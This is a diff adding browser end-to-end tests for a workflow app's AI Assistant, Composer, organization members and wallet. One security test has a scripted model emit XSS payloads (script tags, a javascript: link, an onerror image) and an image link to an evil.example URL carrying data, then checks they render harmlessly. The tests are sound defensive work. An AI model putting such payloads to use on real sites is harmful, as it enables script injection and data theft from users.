@@ -1,0 +1,246 @@
+/** The Assistant, the Composer and the people of an organization, in a browser: API, worker, realtime server, a scripted model. */
+import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
+import type { Page } from 'playwright-core';
+import type { TopupPort } from '../../src/billing/topup.ts';
+import type { JsonObject } from '../../src/graph/value.ts';
+import { startEngine, type TestEngine } from '../support/engine.ts';
+import { chain, transform } from '../support/definitions.ts';
+import { startModelServer, type ModelServer, type ScriptedAnswer } from '../support/model-server.ts';
+import { setTerms } from '../support/money.ts';
+import { inBothThemes } from '../web/support/axe.ts';
+import { startWebStack, type WebStack } from '../web/support/web-stack.ts';
+
+const CHECKOUT = 'https://checkout.example/pay';
+const topups: TopupPort = { begin: () => Promise.resolve({ checkoutUrl: CHECKOUT }), confirm: () => null };
+
+let engine: TestEngine | null = null;
+let model: ModelServer;
+let at: WebStack;
+beforeAll(async () => {
+  model = await startModelServer();
+  const environment = {
+    OUTBOUND_ALLOW: model.hostPort,
+    MANAGED_LLM_BASE_URL: model.baseUrl,
+    MANAGED_LLM_API_KEY: 'managed-llm-key',
+    MANAGED_LLM_MODEL: 'test-model',
+  };
+  at = await startWebStack(async (databaseUrl) => {
+    engine = await startEngine({ ...environment, DATABASE_URL: databaseUrl });
+    return { engine: engine.engine, dispatcher: engine.dispatcher, topups };
+  }, environment);
+}, 180_000);
+beforeEach(() => {
+  at.trouble.length = 0;
+});
+afterAll(async () => {
+  await engine?.close();
+  await at.close();
+  await model.close();
+});
+
+const WITHIN = { timeout: 45_000 };
+
+async function signIn(email: string): Promise<Page> {
+  const page = await at.open('/app/');
+  await page.getByRole('button', { name: 'Sign in' }).click();
+  await page.getByLabel('or as somebody else').fill(email);
+  await page.getByRole('button', { name: 'Continue', exact: true }).click();
+  await page.getByRole('button', { name: 'New workflow' }).waitFor();
+  return page;
+}
+
+/** Managed models are for plans that are paid. */
+async function makePaid(email: string): Promise<void> {
+  const { db } = at.canvas.api.deps;
+  const [row] = await db.query<{ org: string }>(
+    'SELECT m.organization_id AS org FROM memberships m JOIN users u ON u.id = m.user_id WHERE u.email = $1',
+    [email],
+  );
+  await setTerms(db, row?.org ?? '', { plan: 'pro' });
+}
+
+const go = (page: Page, name: string): Promise<void> =>
+  page.getByRole('navigation', { name: 'Workflows' }).getByRole('button', { name, exact: true }).click();
+
+async function say(page: Page, label: string, text: string): Promise<void> {
+  await page.getByLabel(label).fill(text);
+  await page.getByRole('button', { name: 'Send', exact: true }).click();
+}
+const MESSAGE = 'Message to the Assistant';
+
+test('SEC-W02: what a model writes is text and safe links; its answer is stopped, allowed to act, named and deleted', async () => {
+  const page = await signIn('chats@example.com');
+  await makePaid('chats@example.com');
+  await page.getByRole('link', { name: 'Starter workflow' }).click();
+  await page.getByRole('link', { name: 'Versions' }).click();
+  await page.getByRole('button', { name: 'Deploy' }).click();
+  await page.getByText('Nothing differs.').waitFor();
+
+  await go(page, 'Assistant');
+  await page.getByText('Nothing was said yet.').waitFor();
+  model.script({
+    text: [
+      '**Bold** <script>alert(1)</script> [click](javascript:alert(2)) ',
+      '![pixel](https://evil.example/x.png?data=1) [site](https://example.com/a)\n\n<img src=x onerror=alert(3)>',
+    ],
+  });
+  await say(page, MESSAGE, 'Hello <b>there</b>');
+  const answer = page.getByRole('listitem').nth(1);
+  await expect.poll(() => answer.textContent(), WITHIN).toContain('<script>alert(1)</script>');
+  await expect.poll(() => answer.locator('strong').textContent()).toBe('Bold');
+  expect(await answer.textContent()).toContain('<img src=x onerror=alert(3)>');
+  expect(await page.locator('main img, main script').count()).toBe(0);
+  const links = await answer
+    .getByRole('link')
+    .evaluateAll((all) => all.map((one) => [one.getAttribute('href'), one.getAttribute('rel')]));
+  expect(links).toEqual([
+    ['https://evil.example/x.png?data=1', 'noopener noreferrer'],
+    ['https://example.com/a', 'noopener noreferrer'],
+  ]);
+  expect(await answer.textContent()).toContain('(example.com)');
+  expect(await page.getByRole('listitem').first().textContent()).toContain('Hello <b>there</b>');
+  expect(await inBothThemes(page)).toEqual([]);
+
+  model.script({ text: Array.from({ length: 400 }, (_, at) => `word${at} `), delayMs: 100 });
+  await say(page, MESSAGE, 'Count');
+  await page.getByText('word3').waitFor(WITHIN);
+  await page.getByRole('button', { name: 'Stop' }).click();
+  await page.getByText('It was stopped.').waitFor(WITHIN);
+
+  const [tool] = (model.requests.at(-1)?.body['tools'] ?? []) as { function: { name: string } }[];
+  const call = { id: 'c', name: tool?.function.name ?? '', arguments: { text: 'Hi' } };
+  model.script({ toolCalls: [call] }, { text: ['It is done'] });
+  await say(page, MESSAGE, 'Do it');
+  const approve = page.getByRole('button', { name: /^approve/i });
+  await approve.waitFor(WITHIN);
+  expect(await inBothThemes(page)).toEqual([]);
+  await approve.click();
+  await page.getByText('It is done').waitFor(WITHIN);
+  await expect.poll(() => approve.count()).toBe(0);
+
+  model.script({ status: 400 });
+  await say(page, MESSAGE, 'And now?');
+  const last = page.getByRole('listitem').last();
+  await expect.poll(() => last.textContent(), WITHIN).toMatch(/400|model|provider/i);
+
+  await page.getByLabel('Name of the chat').fill('<i>Named</i>');
+  await page.getByRole('button', { name: 'Rename' }).click();
+  await page.getByRole('heading', { name: '<i>Named</i>' }).waitFor();
+  await page.getByRole('button', { name: 'Delete the chat' }).click();
+  await page.getByRole('button', { name: 'Delete', exact: true }).click();
+  await page.getByText('Nothing was said yet.').waitFor();
+  await page.context().close();
+  expect(at.trouble).toEqual([]);
+}, 180_000);
+
+const says = (value: object): ScriptedAnswer => ({ text: [JSON.stringify(value)] });
+const composed = (definition: JsonObject, summary: string): ScriptedAnswer =>
+  says({ summary, workflow_schema: definition });
+
+test('a sentence becomes a workflow after a question back; what the Composer saves comes to the open canvas', async () => {
+  const page = await signIn('composer@example.com');
+  await makePaid('composer@example.com');
+  await page.getByRole('button', { name: 'New from a sentence' }).click();
+  model.script(says({ summary: 'Which **city**?', workflow_schema: null }));
+  const message = 'What the workflow shall do';
+  await say(page, message, 'Tell me the weather');
+  await page.getByRole('dialog').getByText('city').waitFor(WITHIN);
+  expect(await inBothThemes(page)).toEqual([]);
+  model.script(composed(chain(transform('weather', { city: 'Berlin' })), 'It tells the weather'));
+  await say(page, message, 'Berlin');
+  await page.waitForSelector('[data-node="weather"]', WITHIN);
+  const panel = page.getByRole('complementary', { name: 'Composer' });
+  await panel.getByText('It tells the weather').waitFor(WITHIN);
+
+  model.script(
+    composed(chain(transform('weather', { city: 'Berlin' }), transform('report')), 'Added the report'),
+  );
+  await say(page, message, 'Report it');
+  await panel.getByText('Added the report').waitFor(WITHIN);
+  await page.waitForSelector('[data-node="report"]', WITHIN);
+  expect(await inBothThemes(page)).toEqual([]);
+  model.script({ text: ['I will not'] });
+  await say(page, message, 'Break it');
+  await panel.getByText(/not made a workflow that can be saved/).waitFor(WITHIN);
+  await page.getByRole('button', { name: 'Close the Composer' }).click();
+  await expect.poll(() => panel.count()).toBe(0);
+  await page.context().close();
+  expect(at.trouble).toEqual([]);
+}, 150_000);
+
+test('somebody is invited, accepts, is made owner and taken out; the last owner stays; organizations are named and made', async () => {
+  const bob = await signIn('bob-invited@example.com');
+  const page = await signIn('ada-owner@example.com');
+  const organization = page.getByLabel('Organization').first();
+  await go(page, 'Members');
+  await page.getByLabel('New name of this organization').fill('Ada & <b>Co</b>');
+  await page.getByRole('button', { name: 'Rename' }).click();
+  await expect.poll(() => organization.inputValue()).toBe('Ada & <b>Co</b>');
+  await page.getByLabel('E-mail').fill('bob-invited@example.com');
+  await page.getByRole('button', { name: 'Invite' }).click();
+  await page.getByText('No e-mail is sent.').waitFor();
+
+  await bob.reload();
+  await bob.getByText('You are invited to “Ada & <b>Co</b>”').waitFor();
+  expect(await inBothThemes(bob)).toEqual([]);
+  await bob.getByRole('button', { name: 'Accept' }).click();
+  await expect.poll(() => bob.getByLabel('Organization').first().inputValue()).toBe('Ada & <b>Co</b>');
+  await expect.poll(() => bob.getByRole('button', { name: 'Accept' }).count()).toBe(0);
+
+  await page.reload();
+  const choose = async (email: string, role: string): Promise<void> => {
+    await page.getByRole('textbox', { name: `Role: ${email}` }).click();
+    await page.getByRole('option', { name: role }).click();
+  };
+  await choose('ada-owner@example.com', 'Admin');
+  await page.getByText('An organization must keep at least one owner').waitFor();
+  await choose('bob-invited@example.com', 'Owner');
+  const role = page.getByRole('textbox', { name: 'Role: bob-invited@example.com' });
+  await expect.poll(() => role.inputValue()).toBe('Owner');
+  expect(await inBothThemes(page)).toEqual([]);
+  await page.getByRole('button', { name: 'Remove: bob-invited@example.com' }).click();
+  await page.getByRole('button', { name: 'Remove', exact: true }).click();
+  await expect.poll(() => role.count()).toBe(0);
+  await bob.reload();
+  await expect.poll(() => bob.getByLabel('Organization').first().inputValue()).toContain('bob');
+  await bob.context().close();
+
+  await page.getByLabel('Name of another organization').fill('Second');
+  await page.getByRole('button', { name: 'Create' }).click();
+  await expect.poll(() => organization.inputValue()).toBe('Second');
+  await page.context().close();
+  expect(at.trouble).toEqual([]);
+}, 120_000);
+
+test('a request for help is sent or kept; a wallet is for paid plans, and is topped up at the provider', async () => {
+  const page = await signIn('wallet@example.com');
+  await go(page, 'Support');
+  await page.getByLabel('Subject').fill('A run hangs');
+  await page.getByLabel('What happened').fill('It has waited for a day.');
+  await page.route('**/requests', (route) => route.abort(), { times: 4 });
+  await page.getByRole('button', { name: 'Send the request' }).click();
+  await page.getByRole('alert').waitFor(WITHIN);
+  expect(await page.getByLabel('Subject').inputValue()).toBe('A run hangs');
+  await page.unroute('**/requests');
+  await page.getByRole('button', { name: 'Send the request' }).click();
+  await page.getByText('It was sent.').waitFor();
+  expect(await page.getByLabel('Subject').inputValue()).toBe('');
+  expect(await inBothThemes(page)).toEqual([]);
+
+  await go(page, 'Usage');
+  const extra = page.getByLabel('Go on from the wallet when the credits are used up');
+  await extra.click();
+  await page.getByText('This needs a paid plan.').waitFor();
+  expect(await extra.isChecked()).toBe(false);
+  await makePaid('wallet@example.com');
+  await extra.click();
+  await expect.poll(() => extra.isChecked()).toBe(true);
+  expect(await inBothThemes(page)).toEqual([]);
+  await page.route(`${CHECKOUT}**`, (route) => route.fulfill({ body: 'Pay here' }));
+  await page.getByLabel('Amount').fill('500');
+  await page.getByRole('button', { name: 'Top up' }).click();
+  await page.getByText('Pay here').waitFor();
+  expect(page.url()).toBe(CHECKOUT);
+  await page.context().close();
+  expect(at.trouble).toEqual([]);
+}, 120_000);
